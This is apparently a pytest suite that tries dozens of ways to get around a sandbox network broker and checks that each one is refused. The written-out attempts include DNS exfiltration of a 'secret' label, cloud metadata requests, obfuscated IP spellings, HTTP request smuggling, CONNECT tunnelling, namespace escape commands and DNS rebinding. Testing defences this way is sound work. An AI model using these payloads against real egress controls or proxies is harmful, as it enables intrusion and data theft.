"""Every way we know around the broker, tried for real from inside; none gets through.

Each attempt is a command that may reach ok.test on ports 80 and 443. Whatever it tries, no server
of the world may hear it at any other address or port, no other name may leave, and it is told why.
"""

from dataclasses import replace
from textwrap import dedent

import pytest

from tests.sandbox.network.conftest import Net, refusals
from tests.world import (
    ANSWERS,
    GOOGLE,
    HELLO,
    HOME4,
    METADATA,
    OK4,
    OK6,
    OTHER4,
    PRIVATE4,
    PRIVATE6,
    SHARED4,
)

pytestmark = [pytest.mark.threat("T28"), pytest.mark.untraced]
HERE = {(OK4, 80), (OK6, 80), (OK4, 443), (OK6, 443)}
TCP = """
    import socket
    s = socket.create_connection(({host!r}, {port}), 5)
    s.sendall(b"GET / HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n")
    print(s.recv(9999))
"""
TLS = """
    import socket, ssl
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    plain = socket.create_connection(("ok.test", 443), 5)
    tls = context.wrap_socket(plain, server_hostname={name!r})
    tls.sendall(b"GET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n")
    print(tls.recv(9999))
"""
SENT = """
    import socket
    s = socket.create_connection(("ok.test", {port}), 5)
    for part in {parts!r}:
        s.sendall(part)
    s.settimeout(3)
    try:
        while data := s.recv(9999):
            print(data)
    except OSError as error:
        print(error)
"""
UDP = """
    import socket
    for family, host in ((socket.AF_INET, {four!r}), (socket.AF_INET6, {six!r})):
        s = socket.socket(family, socket.SOCK_DGRAM)
        try:
            s.connect((host, {port}))
            s.send(b"x" * 1200)
            s.settimeout(1)
            print(s.recv(99))
        except OSError as error:
            print(error)
"""


def python(text: str, **values: object) -> str:
    return f"python3 - <<'END'\n{dedent(text).format(**values) if values else dedent(text)}\nEND"


def tcp(host: str, port: int = 80) -> str:
    return python(TCP, host=host, port=port)


def sent(*parts: bytes, port: int = 80) -> str:
    return python(SENT, parts=parts, port=port)


GET = b"GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n"
ATTEMPTS = {
    # Names that were not named.
    "another name": "curl -sS -m5 http://other.test/",
    "another name over TLS": "curl -sSk -m5 https://other.test/",
    "a name below": "curl -sS -m5 http://a.ok.test/",
    "a name that ends alike": "curl -sS -m5 http://notok.test/",
    "a name that begins alike": "curl -sS -m5 http://ok.test.other.test/",
    "a look-alike beyond ASCII": "curl -sS -m5 http://ок.test/",
    "a look-alike in A-labels": "curl -sS -m5 http://xn--j1aq.test/",
    "a redirect to another name": "curl -sSL -m5 http://ok.test/away",
    "a name with data in it": "curl -sS -m5 http://c2VjcmV0.other.test/",
    "the name server asked for TXT": python("""
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(2)
        q = b"\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\5other\\4test\\0\\0\\20\\0\\1"
        s.sendto(q, ("8.8.8.8", 53))
        print(s.recv(999)[3] & 15)
    """),
    "a name server by TCP": python("""
        import socket
        s = socket.create_connection(("8.8.8.8", 53), 3)
        q = b"\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\5other\\4test\\0\\0\\20\\0\\1"
        s.sendall(len(q).to_bytes(2, "big") + q)
        print(s.recv(999))
    """),
    # Addresses in every spelling.
    "the address of an allowed name": tcp(OK4),
    "its IPv6 address": tcp(OK6),
    "another address": tcp(OTHER4),
    "a private address": tcp(PRIVATE4),
    "a private IPv6 address": tcp(PRIVATE6),
    "the metadata service": f"curl -sS -m5 http://{METADATA}/latest/meta-data/",
    "the metadata service, mapped": tcp(f"::ffff:{METADATA}"),
    "an address as one number": "curl -sS -m5 http://169090600/",
    "an octal address": "curl -sS -m5 http://012.024.036.050/",
    "a hexadecimal address": "curl -sS -m5 http://0xa141e28/",
    "an address of two numbers": "curl -sS -m5 http://10.1318440/",
    "the host's loopback": tcp("127.0.0.1"),
    "another loopback": tcp("127.9.9.9"),
    "IPv6 loopback": tcp("::1"),
    "localhost by name": "curl -sS -m5 http://localhost/",
    "localhost below": "curl -sS -m5 http://a.localhost/",
    "zero": tcp("0.0.0.0"),
    "zero, short": "curl -sS -m5 http://0/",
    "the mapped loopback": tcp("::ffff:127.0.0.1"),
    "the mapped private address": tcp(f"::ffff:{PRIVATE4}"),
    "a link-local address": tcp("fe80::1%lo"),
    "shared space": tcp(SHARED4),
    "a home network": tcp(HOME4),
    # Ports and protocols.
    "another port": tcp("ok.test", 8080),
    "a port without a listener": tcp("ok.test", 25),
    "UDP": python(UDP, four=OK4, six=OK6, port=9),
    "QUIC": python(UDP, four=OK4, six=OK6, port=443),
    "a raw socket": python("""
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    """),
    # Through the allowed host.
    "TLS for another name": python(TLS, name="other.test"),
    "TLS without a name": python(TLS, name=None),
    "HTTP for another host": "curl -sS -m5 -H 'Host: other.test' http://ok.test/",
    "HTTP for a private host": "curl -sS -m5 -H 'Host: 10.20.30.40' http://ok.test/",
    "two Host lines": sent(b"GET / HTTP/1.1\r\nHost: ok.test\r\nHost: other.test\r\n\r\n"),
    "no Host line": sent(b"GET / HTTP/1.1\r\n\r\n"),
    "an absolute address": sent(b"GET http://other.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n"),
    "both for another": sent(b"GET http://other.test/ HTTP/1.1\r\nHost: other.test\r\n\r\n"),
    "a second request for another": sent(GET, GET.replace(b"ok.", b"other.")),
    "two requests in one packet": sent(GET + GET.replace(b"ok.", b"other.")),
    "a request behind a body": sent(
        b"POST / HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 4\r\n\r\nabcd"
        + GET.replace(b"ok.", b"other.")
    ),
    "a smuggled body": sent(
        b"POST / HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 4\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + GET.replace(b"ok.", b"other.")
    ),
    "a bare line feed": sent(b"GET / HTTP/1.1\nHost: other.test\nHost: ok.test\n\n"),
    "an HTTP/1.0 request for another": sent(b"GET / HTTP/1.0\r\nHost: other.test\r\n\r\n"),
    "CONNECT": sent(b"CONNECT 10.20.30.40:80 HTTP/1.1\r\nHost: 10.20.30.40:80\r\n\r\n"),
    "CONNECT to the same name": sent(
        b"CONNECT ok.test:25 HTTP/1.1\r\nHost: ok.test\r\n\r\n", b"more"
    ),
    "HTTP/2 without TLS": sent(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    "an upgrade to HTTP/2": sent(
        b"GET / HTTP/1.1\r\nHost: ok.test\r\nConnection: Upgrade, HTTP2-Settings\r\n"
        b"Upgrade: h2c\r\nHTTP2-Settings: AAA\r\n\r\n"
    ),
    "a head in single bytes": sent(*(bytes([one]) for one in GET.replace(b"ok.", b"other."))),
    "a head that never ends": sent(b"GET / HTTP/1.1\r\nX: ", *[b"a" * 1000] * 80),
    "HTTP for another on the TLS port": sent(GET.replace(b"ok.", b"other."), port=443),
    # Out of the namespace.
    "its own route": "ip route add default dev lo; ip link add x type dummy; ip addr flush lo",
    "another namespace": "unshare -n true; nsenter -t 1 -n true",
    "/proc/sys": "echo 1 > /proc/sys/net/ipv4/ip_forward",
    "a packet socket": python("""
        import socket
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)
    """),
    "a listener of the broker's": python("""
        import socket
        s = socket.socket(socket.AF_INET6)
        s.bind(("::", 80))
    """),
}  # fmt: skip
# The attempts that never become a connection or a name: the kernel or the view says no at once.
NO_EVENT = {"a raw socket", "its own route", "another namespace", "/proc/sys", "a packet socket",
            "a listener of the broker's", "a look-alike beyond ASCII"}  # fmt: skip


@pytest.mark.as_user
@pytest.mark.parametrize("name", ATTEMPTS)
async def test_no_way_around_leads_out(net: Net, name: str):
    net.allowed = {"ok.test:80", "ok.test:443"}
    net.network = replace(net.network, ports=(80, 443))
    outcome = await net.run(ATTEMPTS[name])
    said = (outcome.stdout.head + outcome.stderr.head).decode()
    # What was asked of the allowed host in the allowed way may have been answered, once.
    assert said.count(HELLO) <= 1, said
    assert set(net.world.seen()) <= HERE
    assert net.world.queries() <= {"ok.test"}
    assert "other.test" not in net.world.said()
    if name not in NO_EVENT:
        assert refusals(outcome.contacts), (said, outcome.contacts)
        assert all(one.reason for one in refusals(outcome.contacts))


# A name that may be reached, and an address that may not.

RESOLVED = ("private.test", "private6.test", "metadata.test", "loopback.test", "mapped.test",
            "shared.test", "home.test", "multicast.test", "zero.test", "nat64.test",
            "sixtofour.test", "alias.test")  # fmt: skip


@pytest.mark.parametrize("name", RESOLVED)
async def test_an_allowed_name_that_leads_inside_is_refused(net: Net, name: str):
    net.allowed = {f"{name}:80"}
    outcome = await net.run(f"curl -sS -m5 http://{name}/")
    assert net.world.seen() == []
    (refused,) = refusals(outcome.contacts)
    assert (refused.host, refused.port) == (name, 80)
    assert "resolves to" in refused.reason
    assert "list such an address" in refused.reason


async def test_of_several_addresses_the_public_ones_are_used(net: Net):
    net.allowed = {"mixed.test:80"}
    outcome = await net.run("curl -sS -m5 http://mixed.test/")
    assert HELLO in outcome.stdout.head.decode()
    assert net.world.seen() == [(OK4, 80)]


async def test_an_answer_is_pinned_while_the_command_runs(net: Net):
    net.allowed = {"rebind.test:80"}
    outcome = await net.run(
        "for i in 1 2 3 4; do curl -sS -m5 http://rebind.test/; sleep 0.1; done"
    )
    assert outcome.stdout.head.decode().count(f"{HELLO} {OK4}") == 4
    assert set(net.world.seen()) == {(OK4, 80)}


async def test_what_is_private_is_reached_where_it_is_listed_by_address(net: Net):
    net.allowed = {"private.test:80", f"{PRIVATE4}:80"}
    outcome = await net.run("curl -sS -m5 http://private.test/")
    assert net.world.seen() == []
    net.network = replace(net.network, addresses=(f"{PRIVATE4}/32",))
    outcome = await net.run(f"curl -sS -m5 http://private.test/; curl -sS -m5 http://{PRIVATE4}/")
    assert outcome.stdout.head.decode().count(HELLO) == 2
    assert net.world.seen() == [(PRIVATE4, 80), (PRIVATE4, 80)]


async def test_a_listed_address_still_needs_policys_word(net: Net):
    net.allowed = {"private.test:80"}
    net.network = replace(net.network, addresses=(f"{PRIVATE4}/32",))
    outcome = await net.run("curl -sS -m5 http://private.test/")
    assert net.world.seen() == []
    assert refusals(outcome.contacts)


async def test_trailing_dots_and_capitals_are_the_same_name(net: Net):
    net.allowed = {"ok.test:80", "ok.test:443"}
    outcome = await net.run(
        "curl -sS -m5 http://OK.Test/; curl -sS -m5 http://ok.test./; curl -sS -m5 https://OK.test/"
    )
    assert outcome.stdout.head.decode().count(HELLO) == 3
    assert not refusals(outcome.contacts)


async def test_no_name_leaves_but_those_that_may_be_reached(net: Net):
    net.allowed = {"ok.test:80"}
    names = " ".join(sorted({*ANSWERS, "x.example"} - {"ok.test"}))
    await net.run(f"for n in {names}; do getent hosts $n; done; getent hosts ok.test")
    assert net.world.queries() == set()  # it is looked up when something connects
    await net.run(f"for n in {names} ok.test; do curl -sS -m2 http://$n/; done")
    assert net.world.queries() == {"ok.test"}
    assert all(address != GOOGLE for address, _ in net.world.seen())


async def test_without_a_network_there_is_no_broker_and_no_port(net: Net):
    outcome = await net.rig.says(
        "curl -sS -m2 http://ok.test/ 2>&1; getent hosts ok.test; echo $?; cat /proc/net/tcp"
    )
    assert HELLO not in outcome
    assert "0A " not in outcome  # nobody listens
    assert net.rig.runner._broker._process is None
